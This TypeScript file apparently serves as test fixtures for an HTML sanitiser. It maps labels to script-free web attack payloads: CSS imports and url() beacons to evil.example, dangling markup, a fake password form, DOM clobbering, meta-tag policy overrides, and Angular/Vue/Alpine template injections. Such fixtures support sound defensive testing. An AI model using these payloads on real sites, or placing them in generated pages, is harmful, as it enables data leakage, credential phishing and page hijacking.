/** What harms the page, its reader or its scripts without a script of its own. */
export const SURROUNDINGS: Readonly<Record<string, string>> = {
  'a style that imports': '<style>@import "https://evil.example/x.css";</style>',
  'a style that imports a script': '<style>@import "javascript:alert(1)";</style>',
  'a style that reads the page': '<style>main[id^=c]{background:url(https://evil.example/leak)}</style>',
  'a style that covers the page': '<p style="position:fixed;inset:0;background:red">x</p>',
  'a style with an address': '<p style="background:url(javascript:alert(1))">x</p>',
  'a style with an address elsewhere': '<p style="background:url(https://evil.example/style)">x</p>',
  'a style with an expression':
    '<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)">x</p>',
  'a style in escapes': '<p style="\\62 ackground:\\75rl(https://evil.example/escaped)">x</p>',
  'a style of a font':
    '<style>@font-face{font-family:x;src:url(https://evil.example/font)}main{font-family:x}</style>',
  'markup that hangs': '<img src="https://pictures.example/?',
  'markup that hangs in single quotation marks': "<a href='https://e.org/?",
  'a text field that swallows the rest':
    '<form action="https://evil.example/"><button>x</button><textarea name=y>',
  'a choice that swallows the rest': '<select><option>',
  'a style that swallows the rest': '<style>',
  'a script that swallows the rest': '<script type="text/plain">',
  'a comment that swallows the rest': '<!--',
  'a frame that swallows the rest': '<iframe src="https://evil.example/frame">',
  'an object that swallows the rest': '<object data="https://evil.example/object">',
  'a template that swallows the rest': '<template>',
  'an element that ends the page': '</div></article></main></body></html><script>alert(1)</script>',
  'a form that asks for a password':
    '<form action="https://evil.example/login"><input type=password name=p><input type=submit></form>',
  'a button of another form': '<button form=search formaction="https://evil.example/">x</button>',
  'a base of all targets': '<base target="_top" href="https://evil.example/">',
  'an id that hides a function': '<a id=alert></a><form id=querySelectorAll><input id=nodeType></form>',
  'a name that hides the clipboard':
    '<img name=navigator><form name=navigator id=clipboard><input name=clipboard></form>',
  'a name that hides a query':
    '<form name=querySelector></form><img name=querySelectorAll><embed name=getElementById>',
  'names in each other': '<a id=x></a><a id=x name=y href="javascript:alert(1)"></a>',
  'a frame with a name': '<iframe name=document srcdoc="<a id=cookie></a>"></iframe>',
  'a role of ours':
    '<p role=status>x</p><button data-copy="javascript:alert(1)" data-done="<img src=x onerror=alert(1)>">y</button>',
  'a class of ours': '<p class="skip colophon masthead" hidden id=content>x</p>',
  'a policy of its own':
    '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
  'a cookie': '<meta http-equiv="set-cookie" content="a=b">',
  'a referrer': '<meta name=referrer content=unsafe-url>',
  'a template of Angular': "<p ng-app>{{constructor.constructor('alert(1)')()}}</p>",
  'a template of Vue':
    '<p v-html="\'<img src=x onerror=alert(1)>\'" @click=alert(1) :href=alert(1)>{{alert(1)}}</p>',
  'a template of Alpine and htmx':
    '<p x-data x-init="alert(1)" hx-get="https://evil.example/" hx-on:click="alert(1)">x</p>',
  'a template of JavaScript':
    '<p>\u0024{alert(1)} `\u0024{alert(1)}` #{alert(1)} <%= alert(1) %> {% alert(1) %} [[alert(1)]]</p>',
  'a template of the pipeline':
    '<p>$& $1 $$ {{ content }} https://site.invalid/"><img src=x onerror=alert(1)></p>',
  'an address of the pipeline':
    '<a href="https://site.invalid/&quot; onclick=&quot;alert(1)">x</a><a href="https://site.invalid//evil.example/">y</a>',
};
